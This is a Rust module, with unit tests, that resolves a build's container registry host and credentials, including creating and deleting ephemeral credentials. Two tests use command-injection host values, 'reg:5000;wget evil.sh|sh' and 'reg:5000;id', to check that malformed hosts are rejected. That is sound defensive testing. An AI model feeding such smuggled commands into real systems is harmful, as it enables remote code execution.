//! Registry resolution
//!
//! Decides which registry a build pushes to and which credential object the
//! build job mounts. Per-request overrides win over cluster configuration,
//! which wins over the configured defaults.

pub mod auth;

pub use auth::{Password, RegistryAuth, DOCKER_CONFIG_KEY};

use std::collections::BTreeMap;
use std::sync::Arc;

use sdk::errors::{BuildError, BuildStep, GatewayError};
use sdk::manifest::{is_registry_host, CredentialKind, CredentialSpec};
use sdk::types::{RegistryOverrides, TargetImageRef};
use uuid::Uuid;

use crate::config::RegistryConfig;
use crate::gateway::ClusterResourceGateway;
use crate::session::{scoped_name, BuildSession};

/// Prefix of credential objects created for a single build
pub const EPHEMERAL_CREDENTIAL_PREFIX: &str = "regcred";

/// Credential object a build job mounts
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CredentialRef {
    /// The configured cluster-wide credential
    ClusterDefault(String),
    /// A credential the caller named; never deleted by the build
    Existing(String),
    /// Created for this session and deleted before the build returns
    Ephemeral(String),
}

impl CredentialRef {
    pub fn name(&self) -> &str {
        match self {
            Self::ClusterDefault(name) | Self::Existing(name) | Self::Ephemeral(name) => name,
        }
    }

    pub fn is_ephemeral(&self) -> bool {
        matches!(self, Self::Ephemeral(_))
    }
}

/// Registry host and credential chosen for a session
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RegistryTarget {
    pub host: String,
    pub credential: CredentialRef,
}

impl RegistryTarget {
    /// Image reference the build pushes
    ///
    /// A caller-named credential means the registry is already part of the
    /// target, so the host is not prepended.
    pub fn image_ref(&self, target: &TargetImageRef) -> String {
        match self.credential {
            CredentialRef::Existing(_) => target.to_string(),
            _ => format!("{}/{}", self.host, target),
        }
    }
}

/// Resolves registry host and credential for build sessions
pub struct RegistryResolver {
    gateway: Arc<dyn ClusterResourceGateway>,
    config: RegistryConfig,
}

impl RegistryResolver {
    pub fn new(gateway: Arc<dyn ClusterResourceGateway>, config: RegistryConfig) -> Self {
        Self { gateway, config }
    }

    /// Override, then cluster config annotation, then the configured default
    ///
    /// A failed config lookup falls back to the default, and so does a host
    /// that is not a plain `host[:port]`.
    pub async fn resolve_host(&self, overrides: &RegistryOverrides) -> String {
        match overrides.host.as_deref() {
            Some(host) if is_registry_host(host) => {
                tracing::debug!("Using registry host override {}", host);
                return host.to_string();
            }
            Some(host) => tracing::warn!("Ignoring malformed registry host override {:?}", host),
            None => {}
        }

        match self.gateway.get_config_object(&self.config.config_object).await {
            Ok(Some(object)) => {
                let annotated = object
                    .annotations
                    .get(&self.config.host_annotation)
                    .map(|h| h.trim())
                    .filter(|h| !h.is_empty());
                match annotated {
                    Some(host) if is_registry_host(host) => {
                        tracing::debug!("Using registry host {} from cluster config", host);
                        return host.to_string();
                    }
                    Some(host) => {
                        tracing::warn!(
                            "Config object {} carries malformed registry host {:?}",
                            self.config.config_object,
                            host
                        );
                        return self.config.default_host.clone();
                    }
                    None => {}
                }
                tracing::debug!(
                    "Config object {} has no {} annotation",
                    self.config.config_object,
                    self.config.host_annotation
                );
            }
            Ok(None) => {
                tracing::debug!("Config object {} not found", self.config.config_object);
            }
            Err(e) => {
                tracing::warn!(
                    "Registry host lookup failed, using default {}: {}",
                    self.config.default_host,
                    e
                );
            }
        }

        self.config.default_host.clone()
    }

    /// Pick the credential for a session
    ///
    /// A `user:pass` override creates an ephemeral credential object; a bare
    /// name references an existing one.
    pub async fn resolve_credential(
        &self,
        overrides: &RegistryOverrides,
        host: &str,
        session: &BuildSession,
    ) -> Result<CredentialRef, BuildError> {
        let Some(secret) = overrides.secret.as_deref() else {
            return Ok(CredentialRef::ClusterDefault(
                self.config.default_secret.clone(),
            ));
        };

        if !secret.contains(':') {
            tracing::debug!("Using existing credential {}", secret);
            return Ok(CredentialRef::Existing(secret.to_string()));
        }

        let auth = RegistryAuth::parse(secret)?;
        let suffix = Uuid::new_v4().simple().to_string();
        let name = scoped_name(EPHEMERAL_CREDENTIAL_PREFIX, &session.caller_id, &suffix[..8]);

        let spec = CredentialSpec {
            name: name.clone(),
            kind: CredentialKind::DockerConfigJson,
            payload: BTreeMap::from([(
                DOCKER_CONFIG_KEY.to_string(),
                auth.docker_config_json(host),
            )]),
        };

        self.gateway
            .create_credential_object(&spec)
            .await
            .map_err(|e| BuildError::cluster(BuildStep::CreateCredential, e))?;
        tracing::info!("Created ephemeral credential {}", name);

        Ok(CredentialRef::Ephemeral(name))
    }

    /// Resolve host, then credential
    pub async fn resolve(
        &self,
        overrides: &RegistryOverrides,
        session: &BuildSession,
    ) -> Result<RegistryTarget, BuildError> {
        overrides.validate()?;
        let host = self.resolve_host(overrides).await;
        let credential = self.resolve_credential(overrides, &host, session).await?;
        Ok(RegistryTarget { host, credential })
    }

    /// Delete the credential if this session created it
    pub async fn release(&self, credential: &CredentialRef) -> Result<(), GatewayError> {
        match credential {
            CredentialRef::Ephemeral(name) => {
                self.gateway.delete_credential_object(name).await?;
                tracing::debug!("Deleted ephemeral credential {}", name);
                Ok(())
            }
            _ => Ok(()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::gateway::{ConfigObject, InMemoryGateway};
    use sdk::errors::{GatewayOperation, ValidationError};

    fn resolver(gateway: &Arc<InMemoryGateway>) -> RegistryResolver {
        RegistryResolver::new(gateway.clone(), RegistryConfig::default())
    }

    fn annotated_config(host: &str) -> ConfigObject {
        ConfigObject {
            name: "config".to_string(),
            annotations: BTreeMap::from([("registry_host".to_string(), host.to_string())]),
            data: BTreeMap::new(),
        }
    }

    fn overrides(host: Option<&str>, secret: Option<&str>) -> RegistryOverrides {
        RegistryOverrides {
            host: host.map(String::from),
            secret: secret.map(String::from),
        }
    }

    #[tokio::test]
    async fn test_host_priority() {
        let gateway = Arc::new(InMemoryGateway::new());
        let resolver = resolver(&gateway);

        assert_eq!(
            resolver.resolve_host(&overrides(None, None)).await,
            "nuvolaris-registry-svc:5000"
        );

        gateway.insert_config_object(annotated_config("cluster.registry:5000"));
        assert_eq!(
            resolver.resolve_host(&overrides(None, None)).await,
            "cluster.registry:5000"
        );
        assert_eq!(
            resolver
                .resolve_host(&overrides(Some("override.registry"), None))
                .await,
            "override.registry"
        );
    }

    #[tokio::test]
    async fn test_host_lookup_failure_falls_back() {
        let gateway = Arc::new(InMemoryGateway::new());
        gateway.insert_config_object(annotated_config("cluster.registry:5000"));
        gateway.fail(GatewayOperation::GetConfigObject);

        let host = resolver(&gateway).resolve_host(&overrides(None, None)).await;
        assert_eq!(host, "nuvolaris-registry-svc:5000");
    }

    #[tokio::test]
    async fn test_malformed_annotation_falls_back() {
        let gateway = Arc::new(InMemoryGateway::new());
        gateway.insert_config_object(annotated_config("reg:5000;wget evil.sh|sh"));

        let host = resolver(&gateway).resolve_host(&overrides(None, None)).await;
        assert_eq!(host, "nuvolaris-registry-svc:5000");
    }

    #[tokio::test]
    async fn test_malformed_host_override_rejected() {
        let gateway = Arc::new(InMemoryGateway::new());
        let session = BuildSession::new("alice", false).unwrap();

        let err = resolver(&gateway)
            .resolve(
                &overrides(Some("reg:5000;id"), Some("alice:secret")),
                &session,
            )
            .await
            .unwrap_err();

        assert!(matches!(
            err,
            BuildError::Validation(ValidationError::InvalidRegistryHost(_))
        ));
        assert!(gateway.calls().is_empty());
    }

    #[tokio::test]
    async fn test_existing_credential_creates_nothing() {
        let gateway = Arc::new(InMemoryGateway::new());
        let session = BuildSession::new("alice", false).unwrap();

        let credential = resolver(&gateway)
            .resolve_credential(&overrides(None, Some("my-existing-secret")), "h", &session)
            .await
            .unwrap();

        assert_eq!(credential, CredentialRef::Existing("my-existing-secret".into()));
        assert!(!credential.is_ephemeral());
        assert!(gateway.credential_names().is_empty());
    }

    #[tokio::test]
    async fn test_user_pass_creates_one_ephemeral_credential() {
        let gateway = Arc::new(InMemoryGateway::new());
        let session = BuildSession::new("alice", false).unwrap();

        let credential = resolver(&gateway)
            .resolve_credential(&overrides(None, Some("alice:secret")), "reg:5000", &session)
            .await
            .unwrap();

        assert!(credential.is_ephemeral());
        assert!(credential.name().starts_with("regcred-alice-"));
        assert_eq!(gateway.credential_names(), vec![credential.name().to_string()]);

        let stored = gateway.credential(credential.name()).unwrap();
        assert_eq!(stored.kind, CredentialKind::DockerConfigJson);
        assert!(stored.payload[DOCKER_CONFIG_KEY].contains("reg:5000"));
    }

    #[tokio::test]
    async fn test_ephemeral_creation_failure_is_fatal() {
        let gateway = Arc::new(InMemoryGateway::new());
        gateway.fail(GatewayOperation::CreateCredentialObject);
        let session = BuildSession::new("alice", false).unwrap();

        let err = resolver(&gateway)
            .resolve_credential(&overrides(None, Some("alice:secret")), "h", &session)
            .await
            .unwrap_err();

        assert!(matches!(
            err,
            BuildError::Cluster {
                step: BuildStep::CreateCredential,
                ..
            }
        ));
    }

    #[tokio::test]
    async fn test_release_only_deletes_ephemeral() {
        let gateway = Arc::new(InMemoryGateway::new());
        let resolver = resolver(&gateway);

        resolver
            .release(&CredentialRef::Existing("mine".into()))
            .await
            .unwrap();
        resolver
            .release(&CredentialRef::ClusterDefault("registry-pull-secret".into()))
            .await
            .unwrap();
        assert!(gateway.calls().is_empty());
    }

    #[test]
    fn test_image_ref() {
        let target: TargetImageRef = "alice:myfunc".parse().unwrap();
        let default = RegistryTarget {
            host: "reg:5000".into(),
            credential: CredentialRef::ClusterDefault("registry-pull-secret".into()),
        };
        let custom = RegistryTarget {
            host: "reg:5000".into(),
            credential: CredentialRef::Existing("mine".into()),
        };

        assert_eq!(default.image_ref(&target), "reg:5000/alice:myfunc");
        assert_eq!(custom.image_ref(&target), "alice:myfunc");
    }
}
